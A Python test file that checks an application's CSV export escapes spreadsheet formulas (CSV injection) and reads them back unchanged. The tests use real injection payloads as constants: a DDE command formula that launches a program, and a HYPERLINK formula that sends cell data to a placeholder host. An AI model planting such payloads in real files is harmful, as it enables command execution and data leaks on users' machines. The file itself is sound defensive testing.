"""No formula leaves in a CSV we write: text Excel would run is written ``'=…`` (OWASP).

A name typed in the grid, read from a sheet or received in a partner's ``.esms`` can say
``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0``; opened in Excel, the exported file would run it.
The export escapes such cells with a leading apostrophe, keeps numbers of numeric fields as
numbers (``-5`` capacity), and the import takes the apostrophe away again: what we write still
reads back as written.
"""

from __future__ import annotations

import csv
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from esms_desktop.domain.grappe import (
    Establishment,
    Grappe,
    OgRole,
    Organisation,
    ProjectType,
)
from esms_desktop.domain.identifiers import finess_with_key
from esms_desktop.importers import grappe_sheet, grappe_template
from esms_desktop.importers.grappe_sheet import COLUMNS, import_grappe
from esms_desktop.importers.grappe_template import (
    write_grappe_csv,
    write_template_csv,
    write_template_xlsx,
)

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _grappe(names: list[str], *, capacity: int | None = 40, solution: str = "") -> Grappe:
    """One porteur named ``names[0]`` whose ESSMS are named by the rest."""
    finesses = ("590050076", "620050427", "590000063", "590000055")
    return Grappe(
        (
            Organisation(
                name=names[0],
                role=OgRole.PORTEUR,
                establishments=tuple(
                    Establishment(
                        finess=finesses[i],
                        name=name,
                        category="500",
                        capacity=capacity,
                        project=ProjectType.ACQUISITION,
                        dui_solution=solution,
                    )
                    for i, name in enumerate(names[1:])
                ),
            ),
        )
    )


def _cells(path: Path) -> list[dict[str, str]]:
    """The data rows of a CSV we wrote, by column, exactly as a spreadsheet reads them."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_the_grappe_export_writes_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    grappe = _grappe([CALC, LINK, "+33 1 23", "@SUM(A1)"], solution="-2+3")
    cells = _cells(write_grappe_csv(grappe, tmp_path / "export.csv"))
    assert [c["nom"] for c in cells] == [f"'{LINK}", "'+33 1 23", "'@SUM(A1)"]
    assert {c["og_nom"] for c in cells} == {f"'{CALC}"}
    assert {c["solution_dui"] for c in cells} == {"'-2+3"}
    for row in cells:
        assert not any(value.startswith(FORMULA_STARTS) for value in row.values()), row


def test_a_negative_number_is_data_in_a_number_column_and_text_in_a_name(tmp_path: Path) -> None:
    cells = _cells(write_grappe_csv(_grappe(["OG", "-5"], capacity=-5), tmp_path / "e.csv"))
    assert cells[0]["capacite"] == "-5"  # a capacity: Excel reads the number -5
    assert cells[0]["nom"] == "'-5"  # a name: text like any other


def test_what_the_export_escapes_reads_back_as_written(tmp_path: Path) -> None:
    porteur = _grappe(["=OG", LINK, "'déjà une apostrophe", "''deux"], solution="+DUI")
    member = replace(
        _grappe(["-Membre", "-Les Tilleuls", "@home"], capacity=None).organisations[0],
        role=OgRole.MEMBRE,
    )
    member = replace(
        member,
        establishments=tuple(
            replace(e, finess=f, eligible_hours_pct=Decimal("70.5"))
            for f, e in zip(
                (finess_with_key("59000123"), finess_with_key("62000456")),
                member.establishments,
                strict=True,
            )
        ),
    )
    grappe = Grappe((*porteur.organisations, member))
    result = import_grappe(write_grappe_csv(grappe, tmp_path / "rt.csv"))
    assert result.grappe is not None, result.errors
    assert result.grappe.organisations == grappe.organisations


def test_the_import_report_names_each_formula_cell(tmp_path: Path) -> None:
    result = import_grappe(write_grappe_csv(_grappe(["OG", LINK, "@x", "-1"]), tmp_path / "f.csv"))
    assert result.grappe is not None and result.errors == ()
    flagged = [n for n in result.notices if "formule" in n]
    assert len(flagged) == 2, result.notices
    assert flagged[0].startswith("Ligne 2, colonne nom : « =HYPERLINK(")
    assert flagged[1].startswith("Ligne 3, colonne nom : « @x »")
    assert all("texte" in n for n in flagged)


@pytest.mark.parametrize(
    ("cell", "kind", "written"),
    [
        ("=1+1", "text", "'=1+1"),
        ("+1", "text", "'+1"),
        ("-1", "text", "'-1"),
        ("@A1", "text", "'@A1"),
        ("\t=1", "text", "'\t=1"),
        ("\r=1", "text", "'\r=1"),
        ("'x", "text", "''x"),
        ("Saint-Éloi", "text", "Saint-Éloi"),
        ("", "text", ""),
        ("-5", "integer", "-5"),
        ("-0,5", "decimal", "-0,5"),
        ("-5+A1", "integer", "'-5+A1"),  # not a number: escaped whatever the column
        ("=5", "decimal", "'=5"),
    ],
)
def test_a_cell_is_escaped_unless_it_is_a_number_of_a_number_column(
    cell: str, kind: str, written: str
) -> None:
    from esms_desktop.domain.fields import FieldKind

    assert grappe_template.formula_safe(cell, FieldKind(kind)) == written
    assert grappe_sheet.unescape_cell(written) == cell


@given(text=st.text(max_size=40))
def test_any_text_is_written_inert_and_read_back_unchanged(text: str) -> None:
    written = grappe_template.formula_safe(text)
    assert not written.startswith(FORMULA_STARTS)
    assert grappe_sheet.unescape_cell(written) == text


def test_the_templates_hold_no_formula(tmp_path: Path) -> None:
    book = load_workbook(write_template_xlsx(tmp_path / "modele.xlsx"))
    assert not [c.coordinate for s in book for r in s.iter_rows() for c in r if c.data_type == "f"]
    for row in _cells(write_template_csv(tmp_path / "modele.csv")):
        assert not any(value.startswith(FORMULA_STARTS) for value in row.values()), row
